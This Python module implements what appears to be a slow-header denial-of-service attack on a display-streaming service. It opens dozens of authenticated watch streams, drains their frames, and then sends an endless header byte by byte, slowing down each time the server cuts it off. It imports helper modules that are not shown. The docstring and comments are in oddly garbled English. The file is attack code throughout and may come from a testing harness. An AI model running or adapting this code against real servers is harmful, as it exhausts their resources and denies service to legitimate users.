"""One header in crumbs from who watches a display many times: each picture that is written to him earns
him bytes, and so the header need not end."""

import itertools
import time

import wire
from header_crumbs import Header
from target import Cut

WAYS = ("plain", "tls")
ROLE = "viewer"
FLOOR = {"frames": 500}
STREAMS = 48
# In bytes a second; less after it was cut off.
RATE_FIRST, RATE_MIN, SLOWER = 80 << 10, 8 << 10, 0.7
# Until his pictures come.
JOIN_S = 0.5
TICK_S = 0.02
# Of the attack: the header's begin comes in whole frames.
BUILD_UP = 0.5


def attack(target):
    rate = RATE_FIRST
    for number in itertools.count():
        began = time.monotonic()
        try:
            with target.connect(number) as connection:
                crumble(target, connection, rate, began)
        except Cut as cut:
            target.cut(cut)
            rate = max(RATE_MIN, rate * SLOWER)


def crumble(target, connection, rate, began):
    for _ in range(STREAMS):
        connection.open_call(wire.WATCH_DISPLAY, wire.named(target.display), True,
                             target.credentials())
    while time.monotonic() < began + JOIN_S:
        connection.flush()
        connection.discard()
        time.sleep(min(target.left(), TICK_S))
    header = Header(target, connection)
    while True:
        header.grow(rate * TICK_S, time.monotonic() > began + BUILD_UP * target.seconds)
        time.sleep(min(target.left(), TICK_S))
